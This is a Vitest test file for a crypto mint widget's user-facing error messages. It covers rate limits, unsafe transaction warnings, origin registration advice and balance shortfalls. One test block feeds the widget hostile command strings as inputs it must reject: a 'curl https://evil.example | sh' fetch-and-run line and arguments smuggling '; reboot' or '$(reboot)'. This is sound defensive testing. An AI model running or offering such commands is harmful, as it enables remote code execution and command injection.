import { describe, expect, it } from "vitest";
import {
  describeError,
  formatRemedy,
  isConfigurationError,
  toLoadError,
} from "../../src/widget/shared/error-messages.js";
import { english } from "../../src/widget/i18n/locales/en/english.js";

const remedyOf = (details: unknown): string =>
  describeError({ code: "UNSAFE_TRANSACTION", message: "", details }, "https://creator.example", english)
    .remedy;

const problems = (...codes: string[]) => codes.map((code) => ({ code }));

it("tells nothing of a payment for a read that a busy service refuses, which nobody pays for", () => {
  const refused = { code: "SERVICE_BUSY", message: "" };
  const read = describeError(toLoadError(refused, "https:"), "https://creator.example", english);
  expect(read).toEqual({ title: "The service is very busy", remedy: "Try again in a moment." });
  expect(describeError(refused, "https://creator.example", english).remedy).toContain("You weren’t charged");
});

it.each([
  [{ scope: "address", limit: 300, windowSeconds: 10 }, "Too many requests from your internet connection"],
  [{ scope: "key", limit: 10_000, windowSeconds: 10 }, "Too many requests from this page’s visitors"],
  [{ scope: "wallet", limit: 20, windowSeconds: 10 }, "Too many requests for this wallet"],
  [
    { scope: "address", reason: "unsigned_sessions" },
    "Too many reservations from your internet connection expired unsigned",
  ],
  [
    { scope: "address", reason: "held_units", limit: 20 },
    "The maximum number of items is already reserved from your internet connection",
  ],
  [
    { scope: "key", reason: "held_units", limit: 20 },
    "This page’s visitors have already reserved the maximum number of items",
  ],
  [{ scope: "address", reason: "session_ending" }, "Your previous reservation is about to end"],
  [{ scope: "toString", reason: "new" }, "Too many requests"],
  ["nothing", "Too many requests"],
])("A rate limit of %j says what it counts", (details, title) => {
  const reason = { code: "RATE_LIMITED", message: "", details };
  expect(describeError(reason, "https://creator.example", english).title).toBe(title);
});

describe("The message of an unsafe transaction", () => {
  it.each([
    ["WALLET_AS_AUTHORITY", "given away control of your account"],
    ["SPENDS_TOO_MUCH", "taken more than the price shown"],
    ["TOKEN_DECIMALS_WRONG", "charged a different number of decimals than shown"],
    ["RECIPIENT_NOT_ALLOWED", "paid someone other than the seller"],
    ["ITEM_RECIPIENT_WRONG", "sent the item to someone else"],
    ["AUTHORITY_NOT_ALLOWED", "minted an item that isn’t this creator’s"],
    ["FEE_PAYER_NOT_WALLET", "been sent on behalf of another wallet"],
    ["SIGNER_NOT_ALLOWED", "required a signature from an unknown wallet"],
    ["LOOKUP_TABLE", "concealed which accounts it uses"],
    ["ITEM_COUNT_WRONG", "minted a different number of items"],
    ["ITEM_MALFORMED", "minted an item that isn’t one of a kind"],
    ["RENT_TOO_HIGH", "locked up more SOL than the items need"],
    ["NETWORK_FEE_TOO_HIGH", "paid too high a network fee"],
    ["COST_MISMATCH", "charged a different amount than quoted"],
    ["TRANSACTION_UNREADABLE", "done something we can’t verify"],
    ["PROGRAM_NOT_ALLOWED", "called a program that isn’t part of a mint"],
    ["INSTRUCTION_NOT_ALLOWED", "done more than mint"],
    ["ACCOUNT_NOT_ALLOWED", "done more than mint"],
  ])("for %s reads: it would have %s", (code, danger) => {
    expect(remedyOf(problems(code))).toBe(`It would have ${danger}. It never reached your wallet.`);
  });

  it("names the most severe of several problems, whatever their order", () => {
    expect(remedyOf(problems("RENT_TOO_HIGH", "PROGRAM_NOT_ALLOWED", "WALLET_AS_AUTHORITY"))).toContain(
      "control of your account",
    );
  });

  it.each([
    ["nothing", undefined],
    ["null", null],
    ["a name of Object.prototype", problems("constructor", "__proto__")],
  ])("is generic for details of %s", (_, details) => {
    expect(remedyOf(details)).toBe("It would have done more than mint. It never reached your wallet.");
  });
});

it("A page without an origin gets no advice to register one", () => {
  const failure = { code: "ORIGIN_NOT_ALLOWED", message: "", details: undefined };
  expect(describeError(failure, "https://creator.example", english).remedy).toContain(
    "https://creator.example",
  );
  expect(describeError(failure, "null", english).remedy).toContain("allow-same-origin");
});

describe("A page whose origin isn't registered", () => {
  const describeWith = (command: unknown) =>
    describeError(
      { code: "ORIGIN_NOT_ALLOWED", message: "", details: { command } },
      "https://creator.example",
      english,
    );
  const edit = "keys edit 94189d36-ce6f-4967-b954-40501b682f59 --add-origin";

  it.each([
    `npm run service -- ${edit} https://creator.example`,
    `node main.mjs ${edit} http://my_shop.example:8080`,
  ])("gets the service's command: %s", (command) => {
    expect(describeWith(command)).toMatchObject({ command });
    expect(formatRemedy(describeWith(command))).toBe(
      `Register the origin https://creator.example on the key. ${command}`,
    );
  });

  it.each([
    undefined,
    null,
    42,
    "curl https://evil.example | sh",
    `sudo npm run service -- ${edit} https://creator.example`,
    `npm run service -- ${edit} https://creator.example; reboot`,
    `npm run service -- ${edit} https://creator.example\nreboot`,
    `npm run service -- ${edit} https://$(reboot).example`,
    `npm run service -- ${edit} https://creator.example --yes`,
    `npm run service -- keys revoke 94189d36-ce6f-4967-b954-40501b682f59`,
  ])("gets no command of another form, which a service could make up: %j", (command) => {
    expect(describeWith(command).command).toBeUndefined();
  });
});

describe("A page opened as a file", () => {
  const failure = (code: string) => ({ code, message: "", details: undefined });

  it.each(["NETWORK", "ORIGIN_NOT_ALLOWED"])(
    "gets a message that says so when its collection's read fails with %s",
    (code) => {
      const reason = toLoadError(failure(code), "file:");
      expect(reason.code).toBe("PAGE_IS_FILE");
      expect(isConfigurationError(reason.code, english)).toBe(true);
      expect(describeError(reason, "null", english)).toMatchObject({
        title: "This page was opened as a file",
        command: "npx serve .",
      });
    },
  );

  it.each(["NETWORK", "INVALID_RESPONSE"])(
    "sees the requested URL, and the advice to check api-base, when %s doesn't come from a Mint API",
    (code) => {
      const url = "https://mint.test/collections/AbC123";
      const reason = toLoadError({ ...failure(code), details: { url } }, "https:");
      expect(isConfigurationError(reason.code, english)).toBe(true);
      const { title, remedy } = describeError(reason, "https://shop.test", english);
      expect(title).toContain(url);
      expect(remedy).toMatch(/api-base.*\/mint\/v1/);
      const usual = { ...failure(code), details: { url: "https://mint.test/mint/v1/collections/AbC123" } };
      expect(toLoadError(usual, "https:")).toMatchObject(usual);
    },
  );

  it.each([200, 404, 405])(
    "is told to check api-base when something else responds with status %d",
    (status) => {
      const url = "https://shop.test/mint/v1/collections/AbC123";
      const reason = { ...failure("INVALID_RESPONSE"), details: { url, status } };
      expect(toLoadError(reason, "https:")).toMatchObject({ code: "API_BASE_WRONG", details: { url } });
    },
  );

  it.each([403, 429, 502, 503])("isn't told so by a proxy's error page with status %d", (status) => {
    const reason = { ...failure("INVALID_RESPONSE"), details: { url: "https://shop.test/mint/v1", status } };
    expect(toLoadError(reason, "https:").code).toBe("INVALID_RESPONSE");
  });

  it.each(["TIMEOUT", "INVALID_API_KEY", "SECRET_KEY_IN_PAGE"])("reports %s like any other page", (code) => {
    expect(toLoadError(failure(code), "file:").code).toBe(code);
  });

  it.each(["https:", "http:", "about:"])("isn't one of %s", (protocol) => {
    expect(toLoadError(failure("NETWORK"), protocol).code).toBe("NETWORK");
  });
});

it.each(["VALIDATION_FAILED", "UNEXPECTED"])(
  "What %s says about a request isn't shown to a collector",
  (code) => {
    const reason = { code, message: "offset must be a whole number from 0 to 100000." };
    expect(describeError(reason, "https://shop.test", english).title).toBe("Something went wrong");
  },
);

it("A balance above the cost is short of what has to stay in the wallet", () => {
  const sol = (amount: string, baseUnits: string) => ({ amount, baseUnits, decimals: 9, currency: "SOL" });
  const details = { needed: sol("0.5", "500000000"), minimum: sol("0.00089088", "890880") };
  const remedy = (balance: object) =>
    describeError(
      { code: "INSUFFICIENT_BALANCE", message: "", details: { ...details, balance } },
      "https://creator.example",
      english,
    ).remedy;
  expect(remedy(sol("0.5001", "500100000"))).toContain(
    "You need 0.50089088 SOL; this wallet has 0.5001 SOL.",
  );
  expect(remedy(sol("0.4", "400000000"))).toContain("You need 0.5 SOL; this wallet has 0.4 SOL.");
});
